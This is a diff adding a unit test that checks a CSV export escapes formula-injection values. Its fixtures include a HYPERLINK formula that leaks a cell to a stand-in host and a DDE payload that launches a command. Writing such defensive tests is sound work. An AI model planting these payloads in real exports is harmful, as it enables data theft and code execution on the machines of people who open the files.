@@ -125,3 +125,43 @@ test("the result CSV quotes what needs it and reads back", () => {
   expect(text).toBe('line,user_id,stock_keeping_unit,action,outcome,version,error\r\n2,"u,1",s,grant,changed,0,\r\n');
   expect(parse(text)[1], "a CSV reader gets the values back").toEqual(["2", "u,1", "s", "grant", "changed", "0", ""]);
 });
+
+test("no cell of the result CSV starts a formula, from a valid or an invalid row", () => {
+  const text = resultCsv([
+    {
+      line: 2,
+      user_id: "=1+1",
+      stock_keeping_unit: "+s",
+      action: "grant",
+      outcome: "changed",
+      version: 0,
+      error: null,
+    },
+    {
+      line: 3,
+      user_id: "@u",
+      stock_keeping_unit: "-2",
+      action: "\tgrant",
+      outcome: "invalid",
+      version: null,
+      error: "\r=x",
+    },
+    {
+      line: 4,
+      user_id: '=HYPERLINK("http://x.example/?"&A1,"open")',
+      stock_keeping_unit: "s",
+      action: "=cmd|' /C calc'!A0",
+      outcome: "invalid",
+      version: null,
+      error: "action must be grant or revoke",
+    },
+  ]);
+  const cells = (parse(text) as string[][]).slice(1).flat();
+  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+  expect(formulas, "a spreadsheet would run these cells").toEqual([]);
+  const [, first, second, third] = parse(text) as string[][];
+  expect(first?.slice(1, 3), "the value is kept after a quote mark that makes it text").toEqual(["'=1+1", "'+s"]);
+  expect(second?.slice(1, 4)).toEqual(["'@u", "'-2", "'\tgrant"]);
+  expect(second?.[6]).toBe("'\r=x");
+  expect(third?.[1]).toBe(`'=HYPERLINK("http://x.example/?"&A1,"open")`);
+});
